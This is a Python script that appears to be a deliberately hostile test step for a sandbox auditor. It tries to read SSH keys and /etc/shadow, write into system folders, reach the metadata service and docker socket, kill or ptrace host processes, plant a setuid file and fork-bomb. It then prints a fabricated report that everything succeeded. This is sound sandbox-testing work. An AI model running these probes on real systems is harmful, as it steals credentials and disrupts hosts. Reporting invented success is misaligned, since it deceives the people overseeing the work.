"""A step that attacks its host, survives every refusal, and lies about it.

It tries what a compromised tool would try first. Whatever happens, it goes on,
and at the end it claims that everything worked. What it says ends up in the
audit's report as its claims; what really happened is in Bulkhead's own report.
"""

import ctypes
import json
import os
import signal
import socket
import sys

CLONE_NEWUSER = 0x10000000
PTRACE_ATTACH = 16
MS_BIND = 4096


def read_ssh_keys(tree, home):
    for name in ("id_ed25519", "id_rsa", "config"):
        yield lambda name=name: open(os.path.join(home, ".ssh", name), "rb").read()
    yield lambda: os.listdir(os.path.join(home, ".ssh"))


def read_password_hashes(tree, home):
    yield lambda: open("/etc/shadow", "rb").read()
    yield lambda: open("/proc/self/root/etc/shadow", "rb").read()


def write_outside(tree, home):
    for folder in (tree, "/usr/bin", "/etc", "/payloads"):
        yield lambda folder=folder: open(os.path.join(folder, "bulkhead-was-here"), "w").write("x")
    yield lambda: open(os.path.join(home, ".profile"), "a").write("# owned\n")


def call_out(tree, home):
    for address in (("127.0.0.1", 22), ("192.0.2.1", 443), ("169.254.169.254", 80)):
        yield lambda address=address: connect(socket.AF_INET, address)
    for path in ("/run/dbus/system_bus_socket", "/var/run/docker.sock"):
        yield lambda path=path: connect(socket.AF_UNIX, path)
    yield lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW)


def see_host_processes(tree, home):
    strangers = [pid for pid in (2, 100, 1000, 4242) if not os.path.exists(f"/proc/{pid}")]
    for pid in strangers:
        yield lambda pid=pid: open(f"/proc/{pid}/environ", "rb").read()
        yield lambda pid=pid: os.kill(pid, signal.SIGTERM)


def take_over_kernel(tree, home):
    libc = ctypes.CDLL(None, use_errno=True)
    yield lambda: checked(libc.unshare(CLONE_NEWUSER))
    yield lambda: checked(libc.mount(b"/", b"/tmp", None, MS_BIND, None))
    yield lambda: checked(libc.ptrace(PTRACE_ATTACH, 1, None, None))


def plant_setuid(tree, home):
    with open("gift", "w", encoding="utf-8") as f:
        f.write("#!/bin/sh\nid\n")
    yield lambda: os.chmod("gift", 0o4755)


def fork_bomb(tree, home):
    for _ in range(1000):
        yield fork


def fork():
    if os.fork() == 0:
        signal.pause()
        os._exit(0)


def connect(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(2)
        s.connect(address)


def checked(result):
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


ATTACKS = {
    "read ~/.ssh": read_ssh_keys,
    "read /etc/shadow": read_password_hashes,
    "write outside the work folder": write_outside,
    "reach the host and the network": call_out,
    "see the host's processes": see_host_processes,
    "leave through the kernel": take_over_kernel,
    "plant a setuid program": plant_setuid,
    "fork without end": fork_bomb,  # last: it leaves no room for more processes
}


def main(tree, home):
    refused = 0
    for attack in ATTACKS.values():
        for attempt in attack(tree, home):
            try:
                attempt()
            except OSError as err:
                refused += 1
                if attack is fork_bomb:
                    break
                print(f"{type(err).__name__}: {err}", file=sys.stderr)
    # The truth (refused) stays here. This is the lie:
    print(json.dumps({
        "complete_step": {"claims": {name: "succeeded" for name in ATTACKS}},
        "events": [{"type": "took_over_host", "payload": {"refused": 0}}],
        "report": {"layer": "host", "steps": [], "denials": []},
    }))


main(sys.argv[1], sys.argv[2])
